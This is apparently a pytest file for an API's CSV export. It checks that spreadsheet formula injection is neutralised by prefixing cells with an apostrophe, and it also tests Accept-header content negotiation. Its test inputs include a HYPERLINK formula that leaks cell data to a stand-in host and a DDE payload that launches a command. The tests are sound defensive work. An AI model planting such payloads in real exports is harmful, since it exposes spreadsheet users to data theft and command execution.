import csv
import io
from datetime import date
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st
from pydantic import BaseModel

from api.csv_answers import as_csv, likes_best, wants_csv


class Row(BaseModel):
    name: str | None
    amount: int | None = None


def cell_of(text: str) -> str:
    """A text as it comes out of the file."""
    answered = bytes(as_csv(Row, [Row(name=text)]).body).decode()
    [_header, [name, _amount]] = csv.reader(io.StringIO(answered, newline=""))
    return name


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("https://evil.example?"&A1,"Refund")',
        "=1+1",
        "+1-555-0100",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "-",
        "-1.",
        "--1",
        "-1\n=2",
    ],
)
def test_no_cell_is_run_as_a_formula(text: str) -> None:
    assert cell_of(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["-1", "+12.50", "-0.2750", "12", "Ada = Imports", "'quoted", "", "a-b", "\uff11"]
)
def test_numbers_and_plain_words_stay_as_they_are(text: str) -> None:
    assert cell_of(text) == text


@given(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")))
def test_a_text_is_there_whatever_it_is(text: str) -> None:
    assert cell_of(text) in (text, f"'{text}")


def test_figures_days_and_ids_are_written_plainly() -> None:
    class Plain(BaseModel):
        id: UUID
        day: date
        amount: int
        nothing: None = None

    answer = as_csv(Plain, [Plain(id=UUID(int=1), day=date(2026, 6, 1), amount=-1100)])

    assert bytes(answer.body).decode().splitlines() == [
        "id,day,amount,nothing",
        "00000000-0000-0000-0000-000000000001,2026-06-01,-1100,",
    ]


@pytest.mark.parametrize(
    ("accept", "best"),
    [
        ("text/csv", "text/csv"),
        ("Text/CSV; q=1, application/json", "text/csv"),
        ("application/json, text/csv", "application/json"),
        ("application/pdf", "application/pdf"),
        ("*/*", None),
        ("", None),
    ],
)
def test_the_first_type_named_is_what_a_caller_likes_best(accept: str, best: str | None) -> None:
    for media_type in ("text/csv", "application/json", "application/pdf"):
        assert likes_best(accept, media_type) == (media_type == best)
    assert wants_csv(accept) == (best == "text/csv")
